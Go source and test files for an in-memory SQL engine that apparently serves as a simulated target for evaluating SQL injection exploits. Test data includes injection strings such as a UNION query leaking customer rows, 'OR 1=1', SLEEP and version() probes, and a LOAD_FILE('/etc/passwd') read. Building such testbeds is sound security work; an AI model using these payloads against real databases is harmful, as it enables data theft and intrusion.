				val, err := ag.ev.eval(v.Args[0], ag.t, row)
				if err != nil {
					return nil, err
				}
				if val != nil {
					parts = append(parts, toString(val))
				}
			}
			if len(parts) == 0 {
				return nil, nil
			}
			return strings.Join(parts, ","), nil
		}
	case *sqlparse.BinaryExpr:
		if exprHasAggregate(e) {
			l, err := ag.eval(v.L)
			if err != nil {
				return nil, err
			}
			r, err := ag.eval(v.R)
			if err != nil {
				return nil, err
			}
			return ag.ev.evalBinary(&sqlparse.BinaryExpr{
				Op: v.Op,
				L:  constExpr(l),
				R:  constExpr(r),
			}, nil, nil)
		}
	}
	// Non-aggregate expression: evaluate over the group's first row.
	var row []Value
	if len(ag.rows) > 0 {
		row = ag.rows[0]
	}
	return ag.ev.eval(e, ag.t, row)
}

// constExpr wraps an already-computed value as a literal expression.
func constExpr(v Value) sqlparse.Expr {
	switch x := v.(type) {
	case nil:
		return &sqlparse.Literal{Kind: sqlparse.LitNull}
	case string:
		return &sqlparse.Literal{Kind: sqlparse.LitString, Str: x}
	default:
		return &sqlparse.Literal{Kind: sqlparse.LitNumber, Text: toString(v)}
	}
}
