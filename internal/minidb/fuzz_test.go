package minidb

import (
	"math/rand"
	"strings"
	"testing"
	"testing/quick"
)

// TestExecNeverPanicsOnArbitraryInput feeds random byte strings to the
// engine; Exec must always return (result or error), never panic — a
// defense-adjacent component must survive adversarially malformed SQL.
func TestExecNeverPanicsOnArbitraryInput(t *testing.T) {
	db := newTestDB(t)
	f := func(s string) bool {
		_, _ = db.Exec(s)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 3000}); err != nil {
		t.Error(err)
	}
}

// TestExecNeverPanicsOnSQLShapedInput stresses the engine with
// SQL-token-shaped random strings, which reach much deeper into the parser
// and evaluator than raw bytes do.
func TestExecNeverPanicsOnSQLShapedInput(t *testing.T) {
	db := newTestDB(t)
	rng := rand.New(rand.NewSource(99))
	vocab := []string{
		"SELECT", "FROM", "WHERE", "INSERT", "INTO", "VALUES", "UPDATE",
		"SET", "DELETE", "UNION", "ALL", "ORDER", "BY", "GROUP", "LIMIT",
		"AND", "OR", "NOT", "NULL", "LIKE", "IN", "BETWEEN", "IS",
		"posts", "users", "id", "title", "*", ",", "(", ")", "=", "<",
		">", "'x'", "''", "1", "0", "-1", "3.14", "--", "/*", "*/", "#",
		"SLEEP(1)", "version()", "CONCAT(", "IF(", "?", ":p", "@v", ";",
	}
	for i := 0; i < 3000; i++ {
		n := 1 + rng.Intn(14)
		parts := make([]string, n)
		for j := range parts {
			parts[j] = vocab[rng.Intn(len(vocab))]
		}
		q := strings.Join(parts, " ")
		_, _ = db.Exec(q) // must not panic
	}
}

// TestExecDeterministic verifies identical queries yield identical
// results (the engine has no hidden nondeterminism; RAND() is pinned).
func TestExecDeterministic(t *testing.T) {
	db := newTestDB(t)
	queries := []string{
		"SELECT * FROM posts WHERE id=1 OR 1=1",
		"SELECT RAND()",
		"SELECT COUNT(*), GROUP_CONCAT(title) FROM posts",
		"SELECT title FROM posts ORDER BY views DESC",
	}
	for _, q := range queries {
		a, errA := db.Exec(q)
		b, errB := db.Exec(q)
		if (errA == nil) != (errB == nil) {
			t.Fatalf("%s: nondeterministic error", q)
		}
		if errA != nil {
			continue
		}
		if len(a.Rows) != len(b.Rows) {
			t.Fatalf("%s: row counts differ", q)
		}
		for i := range a.Rows {
			for j := range a.Rows[i] {
				if a.Rows[i][j] != b.Rows[i][j] {
					t.Fatalf("%s: cell (%d,%d) differs", q, i, j)
				}
			}
		}
	}
}
