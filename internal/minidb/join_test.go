package minidb

import (
	"testing"
)

func joinDB(t *testing.T) *DB {
	t.Helper()
	db := New("shop")
	db.MustExec("CREATE TABLE orders (id INT, user_id INT, total INT)")
	db.MustExec("INSERT INTO orders VALUES (1, 1, 100), (2, 1, 50), (3, 2, 75), (4, 9, 10)")
	db.MustExec("CREATE TABLE customers (id INT, name TEXT)")
	db.MustExec("INSERT INTO customers VALUES (1, 'alice'), (2, 'bob'), (3, 'carol')")
	return db
}

func TestInnerJoin(t *testing.T) {
	db := joinDB(t)
	res, err := db.Exec("SELECT orders.id, customers.name, total FROM orders JOIN customers ON orders.user_id = customers.id ORDER BY orders.id")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 3 {
		t.Fatalf("rows = %v", res.Rows)
	}
	if res.Rows[0][1] != "alice" || res.Rows[2][1] != "bob" {
		t.Errorf("rows = %v", res.Rows)
	}
	// Order 4 references a missing customer: dropped by the inner join.
	for _, row := range res.Rows {
		if row[0] == int64(4) {
			t.Error("unmatched row kept by inner join")
		}
	}
}

func TestInnerJoinWithAliases(t *testing.T) {
	db := joinDB(t)
	res, err := db.Exec("SELECT o.id, c.name FROM orders o JOIN customers c ON o.user_id = c.id WHERE c.name = 'alice'")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 2 {
		t.Errorf("alice's orders = %v", res.Rows)
	}
}

func TestLeftJoinKeepsUnmatched(t *testing.T) {
	db := joinDB(t)
	res, err := db.Exec("SELECT o.id, c.name FROM orders o LEFT JOIN customers c ON o.user_id = c.id ORDER BY o.id")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 4 {
		t.Fatalf("rows = %v", res.Rows)
	}
	last := res.Rows[3]
	if last[0] != int64(4) || last[1] != nil {
		t.Errorf("unmatched row = %v, want NULL name", last)
	}
}

func TestCrossJoin(t *testing.T) {
	db := joinDB(t)
	res, err := db.Exec("SELECT COUNT(*) FROM orders CROSS JOIN customers")
	if err != nil {
		t.Fatal(err)
	}
	if res.Rows[0][0] != int64(12) {
		t.Errorf("cross product = %v, want 12", res.Rows[0][0])
	}
}

func TestJoinWithAggregates(t *testing.T) {
	db := joinDB(t)
	res, err := db.Exec("SELECT c.name, SUM(o.total) FROM orders o JOIN customers c ON o.user_id = c.id GROUP BY c.name ORDER BY c.name")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 2 {
		t.Fatalf("groups = %v", res.Rows)
	}
	if res.Rows[0][0] != "alice" || res.Rows[0][1] != int64(150) {
		t.Errorf("alice total = %v", res.Rows[0])
	}
	if res.Rows[1][0] != "bob" || res.Rows[1][1] != int64(75) {
		t.Errorf("bob total = %v", res.Rows[1])
	}
}

func TestJoinAmbiguousBareColumnUsesFirst(t *testing.T) {
	db := joinDB(t)
	// Both tables have "id"; the bare name resolves to the left table.
	res, err := db.Exec("SELECT id FROM orders o JOIN customers c ON o.user_id = c.id ORDER BY 1")
	if err != nil {
		t.Fatal(err)
	}
	if res.Rows[0][0] != int64(1) {
		t.Errorf("first id = %v", res.Rows[0][0])
	}
}

func TestJoinStar(t *testing.T) {
	db := joinDB(t)
	res, err := db.Exec("SELECT * FROM orders o JOIN customers c ON o.user_id = c.id LIMIT 1")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Columns) != 5 || len(res.Rows[0]) != 5 {
		t.Errorf("star join columns = %v", res.Columns)
	}
}

func TestJoinErrors(t *testing.T) {
	db := joinDB(t)
	if _, err := db.Exec("SELECT * FROM orders JOIN missing ON 1=1"); err == nil {
		t.Error("unknown join table must error")
	}
	if _, err := db.Exec("SELECT * FROM orders JOIN customers ON bogus = 1"); err == nil {
		t.Error("unknown ON column must error")
	}
	if _, err := db.Exec("SELECT * FROM orders JOIN"); err == nil {
		t.Error("dangling JOIN must error")
	}
}

func TestUnionExploitAcrossJoin(t *testing.T) {
	// A union-based exploit against a join-backed endpoint still executes
	// (substrate realism for exploits against JOIN queries).
	db := joinDB(t)
	q := "SELECT o.id, c.name FROM orders o JOIN customers c ON o.user_id = c.id WHERE o.id=-1 UNION SELECT id, name FROM customers"
	res, err := db.Exec(q)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 3 {
		t.Errorf("leaked rows = %v", res.Rows)
	}
}
