package minidb

import (
	"fmt"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"

	"joza/internal/sqlparse"
)

// ExecError is returned for any statement the engine rejects: syntax
// errors, unknown tables or columns, type misuse. Blind SQL injection
// exploits distinguish these errors from empty-but-successful results.
type ExecError struct {
	Query string
	Msg   string
}

// Error implements the error interface.
func (e *ExecError) Error() string {
	return fmt.Sprintf("minidb: %s (query: %.80s)", e.Msg, e.Query)
}

// Result is the outcome of a successfully executed statement.
type Result struct {
	// Columns names the result columns of a SELECT; empty for writes.
	Columns []string
	// Rows holds the result rows of a SELECT.
	Rows [][]Value
	// Affected is the number of rows written by INSERT/UPDATE/DELETE.
	Affected int
	// Delay is virtual time consumed by SLEEP/BENCHMARK calls during
	// evaluation. The engine never blocks; callers fold Delay into their
	// simulated response time, which is what double-blind exploits observe.
	Delay time.Duration
}

// DB is an in-memory database. All methods are safe for concurrent use.
type DB struct {
	mu     sync.RWMutex
	tables map[string]*table
	// name is reported by DATABASE(); user by USER().
	name string
	user string
}

type table struct {
	columns []string
	colIdx  map[string]int
	rows    [][]Value
}

// New returns an empty database named name.
func New(name string) *DB {
	return &DB{
		tables: make(map[string]*table),
		name:   name,
		user:   "webapp@localhost",
	}
}

// Exec parses and executes one SQL statement.
func (db *DB) Exec(query string) (*Result, error) {
	stmt, err := sqlparse.Parse(query)
	if err != nil {
		return nil, &ExecError{Query: query, Msg: err.Error()}
	}
	switch s := stmt.(type) {
	case *sqlparse.SelectStmt:
		return db.execSelect(query, s)
	case *sqlparse.InsertStmt:
		return db.execInsert(query, s)
	case *sqlparse.UpdateStmt:
		return db.execUpdate(query, s)
	case *sqlparse.DeleteStmt:
		return db.execDelete(query, s)
	case *sqlparse.CreateTableStmt:
		return db.execCreate(query, s)
	case *sqlparse.DropTableStmt:
		return db.execDrop(query, s)
	default:
		return nil, &ExecError{Query: query, Msg: "unsupported statement"}
	}
}

// MustExec executes query and panics on error; intended for test and
// example setup code only.
func (db *DB) MustExec(query string) *Result {
	res, err := db.Exec(query)
	if err != nil {
		panic(err)
	}
	return res
}

// Tables returns the table names in sorted order.
func (db *DB) Tables() []string {
	db.mu.RLock()
	defer db.mu.RUnlock()
	out := make([]string, 0, len(db.tables))
	for name := range db.tables {
		out = append(out, name)
	}
	sort.Strings(out)
	return out
}

func (db *DB) execCreate(query string, s *sqlparse.CreateTableStmt) (*Result, error) {
	db.mu.Lock()
	defer db.mu.Unlock()
	key := strings.ToLower(s.Table)
	if _, exists := db.tables[key]; exists {
		if s.IfNotExists {
			return &Result{}, nil
		}
		return nil, &ExecError{Query: query, Msg: "table already exists: " + s.Table}
	}
	t := &table{colIdx: make(map[string]int, len(s.Columns))}
	for i, c := range s.Columns {
		t.columns = append(t.columns, c.Name)
		t.colIdx[strings.ToLower(c.Name)] = i
	}
	db.tables[key] = t
	return &Result{}, nil
}

func (db *DB) execDrop(query string, s *sqlparse.DropTableStmt) (*Result, error) {
	db.mu.Lock()
	defer db.mu.Unlock()
	key := strings.ToLower(s.Table)
	if _, exists := db.tables[key]; !exists {
		if s.IfExists {
			return &Result{}, nil
		}
		return nil, &ExecError{Query: query, Msg: "unknown table: " + s.Table}
	}
	delete(db.tables, key)
	return &Result{}, nil
}

func (db *DB) lookupTable(query, name string) (*table, error) {
	t, ok := db.tables[strings.ToLower(name)]
	if !ok {
		return nil, &ExecError{Query: query, Msg: "unknown table: " + name}
	}
	return t, nil
}

func (db *DB) execInsert(query string, s *sqlparse.InsertStmt) (*Result, error) {
	db.mu.Lock()
	defer db.mu.Unlock()
	t, err := db.lookupTable(query, s.Table)
	if err != nil {
		return nil, err
	}
	ev := &evaluator{db: db, query: query}
	cols := s.Columns
	if len(cols) == 0 {
		cols = t.columns
	}
	colPos := make([]int, len(cols))
	for i, c := range cols {
		idx, ok := t.colIdx[strings.ToLower(c)]
		if !ok {
			return nil, &ExecError{Query: query, Msg: "unknown column: " + c}
		}
		colPos[i] = idx
	}
	for _, exprRow := range s.Rows {
		if len(exprRow) != len(cols) {
			return nil, &ExecError{Query: query, Msg: "column count mismatch"}
		}
		row := make([]Value, len(t.columns))
		for i, e := range exprRow {
			v, err := ev.eval(e, nil, nil)
			if err != nil {
				return nil, err
			}
			row[colPos[i]] = v
		}
		t.rows = append(t.rows, row)
	}
	return &Result{Affected: len(s.Rows), Delay: ev.delay}, nil
}

func (db *DB) execUpdate(query string, s *sqlparse.UpdateStmt) (*Result, error) {
	db.mu.Lock()
	defer db.mu.Unlock()
	t, err := db.lookupTable(query, s.Table)
	if err != nil {
		return nil, err
	}
	ev := &evaluator{db: db, query: query}
	affected := 0
	for _, row := range t.rows {
		match := true
		if s.Where != nil {
			v, err := ev.eval(s.Where, t, row)
			if err != nil {
				return nil, err
			}
			match = truthy(v)
		}
		if !match {
			continue
		}
		for _, as := range s.Set {
			idx, ok := t.colIdx[strings.ToLower(as.Column)]
			if !ok {
				return nil, &ExecError{Query: query, Msg: "unknown column: " + as.Column}
			}
			v, err := ev.eval(as.Value, t, row)
			if err != nil {
				return nil, err
			}
			row[idx] = v
		}
		affected++
	}
	return &Result{Affected: affected, Delay: ev.delay}, nil
}

func (db *DB) execDelete(query string, s *sqlparse.DeleteStmt) (*Result, error) {
	db.mu.Lock()
	defer db.mu.Unlock()
	t, err := db.lookupTable(query, s.Table)
	if err != nil {
		return nil, err
	}
	ev := &evaluator{db: db, query: query}
	kept := t.rows[:0]
	affected := 0
	for _, row := range t.rows {
		match := true
		if s.Where != nil {
			v, err := ev.eval(s.Where, t, row)
			if err != nil {
				return nil, err
			}
			match = truthy(v)
		}
		if match {
			affected++
		} else {
			kept = append(kept, row)
		}
	}
	t.rows = kept
	return &Result{Affected: affected, Delay: ev.delay}, nil
}

func (db *DB) execSelect(query string, s *sqlparse.SelectStmt) (*Result, error) {
	db.mu.RLock()
	defer db.mu.RUnlock()
	ev := &evaluator{db: db, query: query}
	res, err := db.runSelect(ev, query, s)
	if err != nil {
		return nil, err
	}
	res.Delay = ev.delay
	return res, nil
}

// runSelect executes one SELECT arm plus any UNION chain.
func (db *DB) runSelect(ev *evaluator, query string, s *sqlparse.SelectStmt) (*Result, error) {
	res, err := db.runSelectArm(ev, query, s)
	if err != nil {
		return nil, err
	}
	for u := s.Union; u != nil; u = u.Right.Union {
		right, err := db.runSelectArm(ev, query, u.Right)
		if err != nil {
			return nil, err
		}
		if len(right.Columns) != len(res.Columns) {
			return nil, &ExecError{Query: query, Msg: "UNION arms have different column counts"}
		}
		res.Rows = append(res.Rows, right.Rows...)
		if !u.All {
			res.Rows = dedupeRows(res.Rows)
		}
		// ORDER BY / LIMIT of the final arm apply to the union result.
		if u.Right.Union == nil {
			applyOrderLimit(res, ev, u.Right.OrderBy, u.Right.Limit)
		}
	}
	return res, nil
}

func (db *DB) runSelectArm(ev *evaluator, query string, s *sqlparse.SelectStmt) (*Result, error) {
	var t *table
	if s.From != "" {
		var err error
		t, err = db.lookupTable(query, s.From)
		if err != nil {
			return nil, err
		}
		if len(s.Joins) > 0 {
			t, err = db.buildJoinSource(ev, query, s, t)
			if err != nil {
				return nil, err
			}
		}
	}
	// Determine column names.
	var colNames []string
	for _, c := range s.Columns {
		switch {
		case c.Star:
			if t == nil {
				return nil, &ExecError{Query: query, Msg: "SELECT * requires FROM"}
			}
			colNames = append(colNames, t.columns...)
		case c.Alias != "":
			colNames = append(colNames, c.Alias)
		default:
			colNames = append(colNames, exprName(c.Expr))
		}
	}
	res := &Result{Columns: colNames}

	if hasAggregate(s) {
		return db.runAggregateSelect(ev, query, s, t, res)
	}

	sourceRows := [][]Value{nil} // table-less SELECT evaluates once
	if t != nil {
		sourceRows = t.rows
	}
	// Order keys are evaluated against the source row so that ORDER BY can
	// reference columns that are not projected (as MySQL allows). When the
	// expression cannot resolve against the source (e.g. it names a result
	// alias), applyOrderLimit's result-column resolution takes over.
	var orderKeys [][]Value
	for _, row := range sourceRows {
		if s.Where != nil {
			v, err := ev.eval(s.Where, t, row)
			if err != nil {
				return nil, err
			}
			if !truthy(v) {
				continue
			}
		}
		out, err := projectRow(ev, s, t, row)
		if err != nil {
			return nil, err
		}
		res.Rows = append(res.Rows, out)
		if len(s.OrderBy) > 0 && t != nil {
			keys := make([]Value, 0, len(s.OrderBy))
			ok := true
			for _, item := range s.OrderBy {
				// Numeric literals are 1-based result-column positions;
				// leave those to the result-column resolution path.
				if lit, isLit := item.Expr.(*sqlparse.Literal); isLit && lit.Kind == sqlparse.LitNumber {
					ok = false
					break
				}
				v, err := ev.eval(item.Expr, t, row)
				if err != nil {
					ok = false
					break
				}
				keys = append(keys, v)
			}
			if ok {
				orderKeys = append(orderKeys, keys)
			} else {
				orderKeys = nil
			}
		}
	}
	if s.Distinct {
		res.Rows = dedupeRows(res.Rows)
		orderKeys = nil // row identities changed; fall back
	}
	if len(orderKeys) == len(res.Rows) && len(orderKeys) > 0 {
		sortRowsByKeys(res.Rows, orderKeys, s.OrderBy)
		applyOrderLimit(res, ev, nil, s.Limit)
		return res, nil
	}
	applyOrderLimit(res, ev, s.OrderBy, s.Limit)
	return res, nil
}

// sortRowsByKeys stably sorts rows by precomputed per-row order keys.
func sortRowsByKeys(rows [][]Value, keys [][]Value, orderBy []sqlparse.OrderItem) {
	idx := make([]int, len(rows))
	for i := range idx {
		idx[i] = i
	}
	sort.SliceStable(idx, func(a, b int) bool {
		for k, item := range orderBy {
			c := compareValues(keys[idx[a]][k], keys[idx[b]][k])
			if c == 0 {
				continue
			}
			if item.Desc {
				return c > 0
			}
			return c < 0
		}
		return false
	})
	sortedRows := make([][]Value, len(rows))
	for i, j := range idx {
		sortedRows[i] = rows[j]
	}
	copy(rows, sortedRows)
}

func projectRow(ev *evaluator, s *sqlparse.SelectStmt, t *table, row []Value) ([]Value, error) {
	var out []Value
	for _, c := range s.Columns {
		if c.Star {
			out = append(out, row...)
			continue
		}
		v, err := ev.eval(c.Expr, t, row)
		if err != nil {
			return nil, err
		}
		out = append(out, v)
	}
	return out, nil
}

func hasAggregate(s *sqlparse.SelectStmt) bool {
	if len(s.GroupBy) > 0 {
		return true
	}
	for _, c := range s.Columns {
		if c.Expr != nil && exprHasAggregate(c.Expr) {
			return true
		}
	}
	return false
}

func exprHasAggregate(e sqlparse.Expr) bool {
	switch v := e.(type) {
	case *sqlparse.FuncCall:
		switch v.Name {
		case "COUNT", "SUM", "MIN", "MAX", "AVG", "GROUP_CONCAT":
			return true
		}
		for _, a := range v.Args {
			if exprHasAggregate(a) {
				return true
			}
		}
	case *sqlparse.BinaryExpr:
		return exprHasAggregate(v.L) || exprHasAggregate(v.R)
	case *sqlparse.UnaryExpr:
		return exprHasAggregate(v.X)
	}
	return false
}

// runAggregateSelect handles SELECTs with aggregates and/or GROUP BY.
func (db *DB) runAggregateSelect(ev *evaluator, query string, s *sqlparse.SelectStmt, t *table, res *Result) (*Result, error) {
	var rows [][]Value
	if t != nil {
		rows = t.rows
	}
	// Filter with WHERE first.
	var filtered [][]Value
	for _, row := range rows {
		if s.Where != nil {
			v, err := ev.eval(s.Where, t, row)
			if err != nil {
				return nil, err
			}
			if !truthy(v) {
				continue
			}
		}
		filtered = append(filtered, row)
	}
	// Group rows.
	type group struct {
		rows [][]Value
	}
	groups := map[string]*group{}
	var order []string
	if len(s.GroupBy) == 0 {
		groups[""] = &group{rows: filtered}
		order = []string{""}
	} else {
		for _, row := range filtered {
			var keyParts []string
			for _, ge := range s.GroupBy {
				v, err := ev.eval(ge, t, row)
				if err != nil {
					return nil, err
				}
				keyParts = append(keyParts, toString(v))
			}
			key := strings.Join(keyParts, "\x00")
			g, ok := groups[key]
			if !ok {
				g = &group{}
				groups[key] = g
				order = append(order, key)
			}
			g.rows = append(g.rows, row)
		}
	}
	for _, key := range order {
		g := groups[key]
		agg := &aggregator{ev: ev, t: t, rows: g.rows}
		if s.Having != nil {
			v, err := agg.eval(s.Having)
			if err != nil {
				return nil, err
			}
			if !truthy(v) {
				continue
			}
		}
		var out []Value
		for _, c := range s.Columns {
			if c.Star {
				return nil, &ExecError{Query: query, Msg: "SELECT * with aggregates is unsupported"}
			}
			v, err := agg.eval(c.Expr)
			if err != nil {
				return nil, err
			}
			out = append(out, v)
		}
		res.Rows = append(res.Rows, out)
	}
	applyOrderLimit(res, ev, s.OrderBy, s.Limit)
	return res, nil
}

func dedupeRows(rows [][]Value) [][]Value {
	seen := make(map[string]bool, len(rows))
	out := rows[:0]
	for _, r := range rows {
		var key strings.Builder
		for _, v := range r {
			key.WriteString(toString(v))
			key.WriteByte(0)
		}
		if seen[key.String()] {
			continue
		}
		seen[key.String()] = true
		out = append(out, r)
	}
	return out
}

// applyOrderLimit sorts the result rows and applies LIMIT/OFFSET. ORDER BY
// expressions that are plain column references resolve against the result
// columns; numeric literals are 1-based column positions.
func applyOrderLimit(res *Result, ev *evaluator, orderBy []sqlparse.OrderItem, limit *sqlparse.LimitClause) {
	if len(orderBy) > 0 {
		keyIdx := make([]int, 0, len(orderBy))
		desc := make([]bool, 0, len(orderBy))
		for _, item := range orderBy {
			idx := -1
			switch e := item.Expr.(type) {
			case *sqlparse.ColumnRef:
				for i, c := range res.Columns {
					if strings.EqualFold(c, e.Name) {
						idx = i
						break
					}
				}
			case *sqlparse.Literal:
				if e.Kind == sqlparse.LitNumber {
					if n, err := strconv.Atoi(e.Text); err == nil && n >= 1 && n <= len(res.Columns) {
						idx = n - 1
					}
				}
			}
			if idx >= 0 {
				keyIdx = append(keyIdx, idx)
				desc = append(desc, item.Desc)
			}
		}
		if len(keyIdx) > 0 {
			sort.SliceStable(res.Rows, func(i, j int) bool {
				for k, idx := range keyIdx {
					c := compareValues(res.Rows[i][idx], res.Rows[j][idx])
					if c == 0 {
						continue
					}
					if desc[k] {
						return c > 0
					}
					return c < 0
				}
				return false
			})
		}
	}
	if limit != nil {
		off := int(limit.Offset)
		if off > len(res.Rows) {
			off = len(res.Rows)
		}
		end := off + int(limit.Count)
		if end > len(res.Rows) || limit.Count < 0 {
			end = len(res.Rows)
		}
		res.Rows = res.Rows[off:end]
	}
}

func exprName(e sqlparse.Expr) string {
	switch v := e.(type) {
	case *sqlparse.ColumnRef:
		return v.Name
	case *sqlparse.FuncCall:
		return strings.ToLower(v.Name) + "()"
	case *sqlparse.Literal:
		return v.Text
	default:
		return "expr"
	}
}
