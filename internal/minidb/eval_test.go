package minidb

import (
	"strings"
	"testing"
)

// TestMoreFunctions exercises the long tail of built-ins and coercions.
func TestMoreFunctions(t *testing.T) {
	db := New("d")
	tests := []struct {
		q    string
		want Value
	}{
		{"SELECT FLOOR(3.7)", int64(3)},
		{"SELECT FLOOR(-3.2)", int64(-4)},
		{"SELECT ROUND(3.5)", int64(4)},
		{"SELECT ROUND(-3.5)", int64(-4)},
		{"SELECT SPACE(3)", "   "},
		{"SELECT REPEAT('ab', 3)", "ababab"},
		{"SELECT LOCATE('ll', 'hello')", int64(3)},
		{"SELECT POSITION('x', 'axb')", int64(2)},
		{"SELECT NULLIF(1, 1)", nil},
		{"SELECT NULLIF(1, 2)", int64(1)},
		{"SELECT SHA1('')", "da39a3ee5e6b4b0d3255bfef95601890afd80709"},
		{"SELECT PI()", 3.141592653589793},
		{"SELECT RAND()", 0.5},
		{"SELECT NOW()", "2015-06-22 00:00:00"},
		{"SELECT CURDATE()", "2015-06-22"},
		{"SELECT LAST_INSERT_ID()", int64(0)},
		{"SELECT LOAD_FILE('/etc/passwd')", nil},
		{"SELECT 2 * 2.5", int64(5)},
		{"SELECT 1 + 0.5", 1.5},
		{"SELECT 10 % 0", nil},
		{"SELECT 10 DIV 0", nil},
		{"SELECT -(-3)", int64(3)},
		{"SELECT ~0", int64(-1)},
		{"SELECT NOT 0", int64(1)},
		{"SELECT !1", int64(0)},
		{"SELECT +5", int64(5)},
		{"SELECT TRUE", int64(1)},
		{"SELECT FALSE", int64(0)},
		{"SELECT NULL", nil},
		{"SELECT 0x10", int64(16)},
		{"SELECT 1e2", float64(100)},
		{"SELECT 'a' || 'b'", int64(0)}, // MySQL: || is logical OR
		{"SELECT SPACE(-1)", ""},
		{"SELECT REPEAT('x', -2)", ""},
		{"SELECT LEFT('abc', 99)", "abc"},
		{"SELECT RIGHT('abc', -1)", ""},
		{"SELECT SUBSTRING('abc', 0)", "abc"},
		{"SELECT SUBSTRING('abc', 9)", ""},
		{"SELECT SUBSTRING('abcdef', 2, -1)", ""},
		{"SELECT ASCII('')", int64(0)},
		{"SELECT UNHEX('zz')", nil},
		{"SELECT 1 BETWEEN 0 AND 2", int64(1)},
		{"SELECT 5 NOT BETWEEN 0 AND 2", int64(1)},
	}
	for _, tt := range tests {
		res, err := db.Exec(tt.q)
		if err != nil {
			t.Errorf("%s: %v", tt.q, err)
			continue
		}
		if res.Rows[0][0] != tt.want {
			t.Errorf("%s = %#v, want %#v", tt.q, res.Rows[0][0], tt.want)
		}
	}
}

func TestFunctionArityErrors(t *testing.T) {
	db := New("d")
	bad := []string{
		"SELECT ASCII()",
		"SELECT LENGTH(1, 2)",
		"SELECT SUBSTRING('a')",
		"SELECT IF(1, 2)",
		"SELECT IFNULL(1)",
		"SELECT MD5()",
		"SELECT SLEEP()",
		"SELECT BENCHMARK(1)",
		"SELECT CONCAT_WS()",
		"SELECT GREATEST()",
		"SELECT STRCMP('a')",
		"SELECT REPLACE('a', 'b')",
		"SELECT LEFT('a')",
		"SELECT TRIM()",
	}
	for _, q := range bad {
		if _, err := db.Exec(q); err == nil {
			t.Errorf("%s: want arity error", q)
		}
	}
}

func TestConcatNullPropagates(t *testing.T) {
	db := New("d")
	res, err := db.Exec("SELECT CONCAT('a', NULL, 'b')")
	if err != nil {
		t.Fatal(err)
	}
	if res.Rows[0][0] != nil {
		t.Errorf("CONCAT with NULL = %v, want NULL", res.Rows[0][0])
	}
}

func TestValueCoercions(t *testing.T) {
	if toFloat("  -2.5abc") != -2.5 {
		t.Errorf("numeric prefix = %v", toFloat("  -2.5abc"))
	}
	if toFloat("abc") != 0 || toFloat(nil) != 0 {
		t.Error("non-numeric coercion")
	}
	if toFloat("5.") != 5 {
		t.Errorf("trailing dot = %v", toFloat("5."))
	}
	if toString(nil) != "NULL" || toString(int64(3)) != "3" ||
		toString(2.5) != "2.5" || toString("x") != "x" {
		t.Error("toString")
	}
	if toString(true) == "" {
		t.Error("toString fallback")
	}
	if truthy(nil) || truthy(int64(0)) || !truthy("1x") || truthy("abc") {
		t.Error("truthy")
	}
	// Raw byte order would put 'B' (0x42) before 'a' (0x61); the
	// case-insensitive collation orders it after.
	if compareValues("B", "a") <= 0 {
		t.Error("case-insensitive string compare")
	}
	if compareValues("10", int64(9)) <= 0 {
		t.Error("numeric coercion compare")
	}
}

func TestXPathFunctionsErrorShapes(t *testing.T) {
	db := New("d")
	if _, err := db.Exec("SELECT EXTRACTVALUE(1)"); err == nil ||
		!strings.Contains(err.Error(), "XPATH") {
		t.Error("single-arg EXTRACTVALUE error shape")
	}
}

func TestRegexpOperator(t *testing.T) {
	db := newTestDB(t)
	res, err := db.Exec("SELECT title FROM posts WHERE title REGEXP 'world'")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 1 {
		t.Errorf("REGEXP rows = %v", res.Rows)
	}
	res, err = db.Exec("SELECT title FROM posts WHERE title NOT REGEXP 'o'")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 1 || res.Rows[0][0] != "Drafts" {
		t.Errorf("NOT REGEXP rows = %v", res.Rows)
	}
}

func TestUpdateDeleteWithoutWhere(t *testing.T) {
	db := New("d")
	db.MustExec("CREATE TABLE t (a INT)")
	db.MustExec("INSERT INTO t VALUES (1), (2), (3)")
	res, err := db.Exec("UPDATE t SET a = 0")
	if err != nil || res.Affected != 3 {
		t.Fatalf("update all: %v %v", res, err)
	}
	res, err = db.Exec("DELETE FROM t")
	if err != nil || res.Affected != 3 {
		t.Fatalf("delete all: %v %v", res, err)
	}
}

func TestHavingWithoutGroupBy(t *testing.T) {
	db := newTestDB(t)
	res, err := db.Exec("SELECT COUNT(*) FROM posts HAVING COUNT(*) > 99")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 0 {
		t.Errorf("rows = %v", res.Rows)
	}
}

func TestAggregateArithmetic(t *testing.T) {
	db := newTestDB(t)
	res, err := db.Exec("SELECT MAX(views) - MIN(views) FROM posts")
	if err != nil {
		t.Fatal(err)
	}
	if res.Rows[0][0] != int64(25) {
		t.Errorf("range = %v", res.Rows[0][0])
	}
}

func TestInWithNull(t *testing.T) {
	db := New("d")
	db.MustExec("CREATE TABLE t (a INT)")
	db.MustExec("INSERT INTO t VALUES (1), (NULL)")
	res, err := db.Exec("SELECT a FROM t WHERE a IN (1, 2)")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 1 {
		t.Errorf("IN with NULL rows = %v", res.Rows)
	}
}
