package minidb

import (
	"strings"

	"joza/internal/sqlparse"
)

// buildJoinSource materializes the FROM table plus its JOIN chain into one
// pseudo-table whose rows are the joined tuples and whose column index
// resolves both bare names (first occurrence wins, as in MySQL when
// unambiguous) and qualified "alias.column" names.
//
// Joins execute as nested loops — adequate for the evaluation-scale data
// the substrate carries, and semantically exact for INNER, CROSS and LEFT
// [OUTER] joins.
func (db *DB) buildJoinSource(ev *evaluator, query string, s *sqlparse.SelectStmt, base *table) (*table, error) {
	merged := &table{colIdx: make(map[string]int)}
	addColumns := func(tblName, alias string, src *table) {
		qualifiers := []string{strings.ToLower(tblName)}
		if alias != "" {
			qualifiers = append(qualifiers, strings.ToLower(alias))
		}
		for _, col := range src.columns {
			idx := len(merged.columns)
			merged.columns = append(merged.columns, col)
			key := strings.ToLower(col)
			if _, exists := merged.colIdx[key]; !exists {
				merged.colIdx[key] = idx
			}
			for _, q := range qualifiers {
				merged.colIdx[q+"."+key] = idx
			}
		}
	}

	addColumns(s.From, s.FromAlias, base)
	rows := base.rows

